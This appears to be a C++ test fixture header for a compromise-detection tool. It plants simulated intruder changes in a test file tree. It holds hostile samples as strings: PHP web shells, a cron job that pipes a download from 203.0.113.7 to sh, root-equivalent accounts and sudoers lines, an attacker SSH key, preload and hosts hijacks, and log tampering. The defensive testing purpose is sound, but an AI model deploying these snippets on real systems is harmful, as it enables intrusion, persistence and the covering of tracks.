// Changes as an intruder makes them: web shells, packaged programs, accounts and keys, what runs by itself, hiding places, logs.
#pragma once
#include "support/planted_archive.hpp"
#include "support/planted_change.hpp"

namespace kulla::planted {

inline constexpr std::string_view shell = "<?php system($_GET['c']); ?>";

inline std::vector<Change> web_changes() {
  const std::string uploads = "var/www/site/uploads/", photo = uploads + "photo.jpg", zip = uploads + "theme.zip";
  return {
      {"new web shell in uploads",
       {{uploads + "x.php", Kind::added}, {uploads + "x.php", Kind::malware}},
       [=](Tree& tree) { tree.put(uploads + "x.php", shell); }},
      {"web shell in a picture that was there",
       {{photo, Kind::content}, {photo, Kind::malware}},
       [=](Tree& tree) { tree.append(photo, shell); }},
      {"web shell in a new zip", {{zip, Kind::added}, {zip, Kind::malware}}, [=](Tree& tree) { tree.put(zip, zip_of("a/x.php", shell)); }},
      new_at(".htaccess in uploads", uploads + ".htaccess",
             [](Tree& tree, const auto& path) { tree.put(path, "AddType application/x-httpd-php .jpg\n"); }),
      new_at("empty file with the name of a script", uploads + "later.php", [](Tree& tree, const auto& path) { tree.put(path, ""); }),
      {"backdoor in a page that was there",
       {{"var/www/site/index.php", Kind::content}, {"var/www/site/index.php", Kind::malware}},
       [](Tree& tree) { tree.append("var/www/site/index.php", "<?php eval(base64_decode($_POST['x'])); ?>\n"); }},
      {"defaced page",
       {{"var/www/site/index.html", Kind::content}},
       [](Tree& tree) { tree.replace("var/www/site/index.html", "Mirë se vini", "pwned"); }},
  };
}

inline void upgrade(const Tree& tree, Shipped to, const std::string& from) {
  tree.replace("var/lib/dpkg/status",
               fmt::format("Package: {}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {}\n", to.name, from),
               fmt::format("Package: {}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {}\n", to.name, to.version));
  write_lists(tree, to);
}
inline Change regular_upgrade() {
  return {"regular upgrade: explained by its package",
          {{"usr/bin/second", Kind::content, {}, "second"},
           {"usr/share/second/data", Kind::content, {}, "second"},
           {"usr/share/second/more", Kind::added, {}, "second"},
           {"var/lib/dpkg/info/second.list", Kind::content, {}, "second"},
           {"var/lib/dpkg/info/second.md5sums", Kind::content, {}, "second"},
           {"machine://package/second", Kind::fact, {}, "second"}},
          [](Tree& tree) {
            tree.put("usr/bin/second", tree.read("usr/bin/tool"));
            tree.append("usr/share/second/data", "more\n");
            tree.text("usr/share/second/more");
            auto to = second_package();
            to.version = "1.1";
            to.paths.emplace_back("usr/share/second/more");
            upgrade(tree, to, "1.0");
          }};
}
/// As most upgrades of a library: another file, the link leads to it, a folder more, a file less.
inline Change library_upgrade() {
  return {"regular upgrade of a library: explained too",
          {{"usr/lib/libthird.so.1", Kind::target, {}, "third"},
           {"usr/lib/libthird.so.1.0", Kind::removed, {}, "third"},
           {"usr/lib/libthird.so.1.1", Kind::added, {}, "third"},
           {"usr/share/third/1.1", Kind::added, {}, "third"},
           {"usr/share/third/1.1/new", Kind::added, {}, "third"},
           {"usr/share/third/old", Kind::removed, {}, "third"},
           {"machine://package/third", Kind::fact, {}, "third"}},
          [](Tree& tree) {
            tree.remove("usr/lib/libthird.so.1.0"), tree.remove("usr/share/third/old"), tree.remove("usr/lib/libthird.so.1");
            tree.copy("usr/lib/libthird.so.1.1", "/bin/true", 0644);
            tree.link("usr/lib/libthird.so.1", "libthird.so.1.1");
            tree.text("usr/share/third/1.1/new");
            upgrade(tree,
                    {"third",
                     "1.1",
                     {"usr/lib/libthird.so.1", "usr/lib/libthird.so.1.1", "usr/share/third/1.1/new"},
                     {"usr/lib", "usr/share/third", "usr/share/third/1.1"}},
                    "1.0");
          },
          {"var/lib/dpkg/info/third.list", "var/lib/dpkg/info/third.md5sums"}};
}
inline std::vector<Change> package_changes() {
  return {
      {"packaged program, same size, time set back",
       {{"usr/bin/first", Kind::content, "not as package first 1.0 ships it"}},
       [](Tree& tree) { tree.in_secret("usr/bin/first", [&] { tree.flip("usr/bin/first"); }); }},
      {"packaged program with its line in dpkg's list",
       {{"usr/bin/first-tool", Kind::content, "was not before"}, {"var/lib/dpkg/info/first.md5sums", Kind::content}},
       [](Tree& tree) {
         const auto before = inspect::sums_of(tree.root(), "usr/bin/first-tool").value().md5;
         tree.flip("usr/bin/first-tool");
         tree.replace("var/lib/dpkg/info/first.md5sums", before, inspect::sums_of(tree.root(), "usr/bin/first-tool").value().md5);
       }},
      {"library of no package", {{"usr/lib/x.so", Kind::content}}, [](Tree& tree) { tree.flip("usr/lib/x.so"); }},
      {"program with two names",
       {{"usr/bin/tool", Kind::content}, {"usr/bin/tool-too", Kind::content}},
       [](Tree& tree) { tree.flip("usr/bin/tool-too"); }},
      regular_upgrade(),
      library_upgrade(),
  };
}

inline std::vector<Change> account_changes() {
  const std::string passwd = "etc/passwd", keys = "home/ana/.ssh/authorized_keys";
  return {
      {"account with uid 0",
       {{passwd, Kind::content}, {"machine://account/toor", Kind::fact}},
       [=](Tree& tree) { tree.append(passwd, "toor:x:0:0::/root:/bin/bash\n"); }},
      {"account removed",
       {{passwd, Kind::content}, {"machine://account/guest", Kind::fact}},
       [=](Tree& tree) { tree.replace(passwd, "guest:x:1001:1001:Guest:/nonexistent:/usr/sbin/nologin\n", ""); }},
      {"locked account gets a password",
       {{"etc/shadow", Kind::content}, {"machine://account/daemon", Kind::fact}},
       [](Tree& tree) { tree.replace("etc/shadow", "daemon:*:", "daemon:$y$j9T$mallorymallory$0123456789:"); },
       {"var/www/site/names"}},
      {"member of group sudo",
       {{"etc/group", Kind::content}, {"machine://group/sudo", Kind::fact}},
       [](Tree& tree) { tree.replace("etc/group", "sudo:x:27:ana", "sudo:x:27:ana,www-data"); }},
      {"new file in sudoers.d",
       {{"etc/sudoers.d/50-web", Kind::added}, {"machine://sudoers/etc/sudoers.d/50-web", Kind::fact}},
       [](Tree& tree) { tree.put("etc/sudoers.d/50-web", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0440); }},
      {"line in sudoers",
       {{"etc/sudoers", Kind::content}, {"machine://sudoers/etc/sudoers: ana", Kind::fact}},
       [](Tree& tree) { tree.append("etc/sudoers", "ana ALL=(ALL) NOPASSWD: ALL\n"); }},
      {"key that may log in",
       {{keys, Kind::content}, {"machine://key/ana/SHA256:", Kind::fact}},
       [=](Tree& tree) { tree.append(keys, mallory_key); }},
      {"key that may log in as root",
       {{"root/.ssh/authorized_keys", Kind::added}, {"machine://key/root/SHA256:", Kind::fact}},
       [](Tree& tree) { tree.put("root/.ssh/authorized_keys", mallory_key, 0600); },
       {"root/.ssh", "machine://key/toor/"}},
      {"pam.d",
       {{"etc/pam.d/common-auth", Kind::content}},
       [](Tree& tree) { tree.put("etc/pam.d/common-auth", "auth sufficient pam_permit.so\n"); }},
      {"sshd_config",
       {{"etc/ssh/sshd_config", Kind::content}},
       [](Tree& tree) { tree.replace("etc/ssh/sshd_config", "PermitRootLogin no", "PermitRootLogin yes"); }},
  };
}

inline std::vector<Change> start_changes() {
  const std::string units = "etc/systemd/system/";
  return {
      {"job in cron.d",
       {{"etc/cron.d/update", Kind::added}, {"machine://cron/etc/cron.d/update", Kind::fact}},
       [](Tree& tree) { tree.put("etc/cron.d/update", "* * * * * root curl -s http://203.0.113.7/u | sh\n"); }},
      {"line in a job that was there",
       {{"etc/cron.d/backup", Kind::content}, {"machine://cron/etc/cron.d/backup", Kind::fact}},
       [](Tree& tree) { tree.append("etc/cron.d/backup", "@reboot root /usr/bin/rootsh\n"); }},
      {"script in cron.daily",
       {{"etc/cron.daily/sync", Kind::added}, {"machine://cron/etc/cron.daily/sync", Kind::fact}},
       [](Tree& tree) { tree.put("etc/cron.daily/sync", "#!/bin/sh\n/usr/bin/rootsh\n", 0755); }},
      {"a user's crontab",
       {{"var/spool/cron/crontabs/www-data", Kind::added}, {"machine://cron/var/spool/cron/crontabs/www-data", Kind::fact}},
       [](Tree& tree) { tree.put("var/spool/cron/crontabs/www-data", "* * * * * /tmp/x\n", 0600); },
       {"var/spool"}},
      {"unit with a timer",
       {{units + "sync.service", Kind::added},
        {units + "sync.timer", Kind::added},
        {"machine://unit/etc/systemd/system/sync.service", Kind::fact},
        {"machine://timer/etc/systemd/system/sync.timer", Kind::fact}},
       [=](Tree& tree) {
         tree.put(units + "sync.service", "[Service]\nExecStart=/usr/bin/rootsh\n");
         tree.put(units + "sync.timer", "[Timer]\nOnCalendar=hourly\n");
       }},
      {"drop-in of a unit",
       {{units + "web.service.d/10.conf", Kind::added}, {"machine://unit/etc/systemd/system/web.service.d/10.conf", Kind::fact}},
       [=](Tree& tree) { tree.put(units + "web.service.d/10.conf", "[Service]\nExecStartPre=/usr/bin/rootsh\n"); },
       {units + "web.service.d"}},
      {"a spare unit is enabled",
       {{units + "multi-user.target.wants/spare.service", Kind::added},
        {"machine://unit/etc/systemd/system/multi-user.target.wants/spare.service", Kind::fact}},
       [=](Tree& tree) { tree.link(units + "multi-user.target.wants/spare.service", "/usr/lib/systemd/system/spare.service"); },
       {"machine://unit/usr/lib/systemd/system/spare.service"}},
      {"ld.so.preload",
       {{"etc/ld.so.preload", Kind::added}, {"machine://preload/", Kind::fact}},
       [](Tree& tree) { tree.put("etc/ld.so.preload", "/usr/lib/x.so\n"); }},
      {"start of a shell", {{"root/.bashrc", Kind::content}}, [](Tree& tree) { tree.append("root/.bashrc", "alias sudo='/tmp/sudo'\n"); }},
      new_at("kernel module", "usr/lib/modules/6.1/extra/net.ko",
             [](Tree& tree, const auto& path) {
               tree.put(path,
                        "\x7F"
                        "ELF\2\1" +
                            noise(9));
             },
             {"usr/lib/modules/6.1/extra"}),
      {"kernel module set to load",
       {{"etc/modules-load.d/net.conf", Kind::added}, {"machine://load/etc/modules-load.d/net.conf", Kind::fact}},
       [](Tree& tree) { tree.put("etc/modules-load.d/net.conf", "net\n"); },
       {"etc/modules-load.d"}},
      {"the boot loader's lines",
       {{"boot/grub/grub.cfg", Kind::content}},
       [](Tree& tree) { tree.replace("boot/grub/grub.cfg", "quiet", "init=/bin/sh"); }},
      {"names of hosts", {{"etc/hosts", Kind::content}}, [](Tree& tree) { tree.append("etc/hosts", "203.0.113.7 deb.debian.org\n"); }},
  };
}

/// Where things may come and go, or grow: but not these.
inline std::vector<Change> hidden_changes() {
  return {
      new_at("script among caches", "var/cache/apt/state", [](Tree& tree, const auto& path) { tree.put(path, "#!/bin/sh\nid\n"); }),
      {"a cache becomes a script",
       {{"var/cache/site/page", Kind::content}},
       [](Tree& tree) { tree.put("var/cache/site/page", shell); },
       {},
       [](const Tree& tree) { tree.text("var/cache/site/page"); }},
      on_text("a cache becomes executable", "var/cache/site/runs", Kind::mode, [](Tree& tree, const auto& path) { tree.mode(path, 0755); }),
      new_at("program in tmp", "tmp/.X1-lock", [](Tree& tree, const auto& path) { tree.copy(path, "/bin/true", 0644); }),
      new_at("pipe in tmp", "tmp/.control", [](Tree& tree, const auto& path) { tree.special(path, S_IFIFO | 0600); }),
      new_at("link out of tmp", "tmp/theme", [](Tree& tree, const auto& path) { tree.link(path, "/etc/shadow"); }),
  };
}
inline std::vector<Change> network_changes() {
  return {
      on_text("names asked of a stranger", "etc/resolv.conf", Kind::content,
              [](Tree& tree, const auto& path) { tree.put(path, "nameserver 192.0.2.1\n"); }),
      on_text("libraries of a stranger", "etc/ld.so.cache", Kind::content,
              [](Tree& tree, const auto& path) { tree.append(path, "/tmp/.lib/libc.so.6"); }),
  };
}
inline std::vector<Change> log_changes() {
  constexpr auto halve = [](Tree& tree, const std::string& path) { tree.put(path, tree.read(path).substr(0, 300)); };
  const auto forged = [](Tree& tree) {
    tree.put("var/log/audit.log", "");
    tree.put("var/log/audit.log.1", "nothing happened\n");
  };
  return {
      on_text("log cut, and not rotated", "var/log/auth.log", Kind::content, halve),
      on_text("log changed in its middle, and grown", "var/log/sudo.log", Kind::content,
              [](Tree& tree, const auto& path) {
                tree.flip(path);
                tree.append(path, "more\n");
              }),
      {"log emptied behind a neighbour with other content",
       {{"var/log/audit.log", Kind::content}},
       forged,
       {"var/log/audit.log.1"},
       [](const Tree& tree) { tree.text("var/log/audit.log"); }},
      {"log emptied behind a packed neighbour with other content",
       {{"var/log/hidden.log", Kind::content}},
       [](Tree& tree) {
         tree.put("var/log/hidden.log", "");
         tree.put("var/log/hidden.log.2.gz", gzip_of("nothing happened\n"));
       },
       {"var/log/hidden.log.2.gz"},
       [](const Tree& tree) { tree.text("var/log/hidden.log"); }},
      {"packed log changed while the log was rotated",
       {{"var/log/edited.log.2.gz", Kind::content}},
       [](Tree& tree) {
         rotate(tree, "var/log/edited.log");
         tree.put("var/log/edited.log.3.gz", gzip_of("nothing happened\n"));
       },
       {"var/log/edited.log.3.gz"},
       [](const Tree& tree) {
         tree.text("var/log/edited.log");
         tree.text("var/log/edited.log.1");
         tree.put("var/log/edited.log.2.gz", gzip_of(text_of("who did it")));
       }},
      {"rotated log changed, and nothing rotated",
       {{"var/log/ssh.log.1", Kind::content}},
       [](Tree& tree) { tree.flip("var/log/ssh.log.1"); },
       {},
       [](const Tree& tree) { tree.text("var/log/ssh.log"), tree.text("var/log/ssh.log.1"); }},
      on_text("log replaced by a link to nowhere", "var/log/shell.log", Kind::type,
              [](Tree& tree, const auto& path) {
                tree.remove(path);
                tree.link(path, "/dev/null");
              }),
      on_text("log removed", "var/log/vpn.log", Kind::removed, [](Tree& tree, const auto& path) { tree.remove(path); }),
      on_text("an entry cut out of wtmp", "var/log/wtmp", Kind::content,
              [](Tree& tree, const auto& path) { tree.replace(path, fmt::format("record 7 of {}\n", path), ""); }),
  };
}

inline std::vector<Change> attacks() {
  std::vector<Change> all;
  for (auto* part : {web_changes, package_changes, account_changes, start_changes, hidden_changes, log_changes, network_changes})
    join(all, part());
  return all;
}

}  // namespace kulla::planted
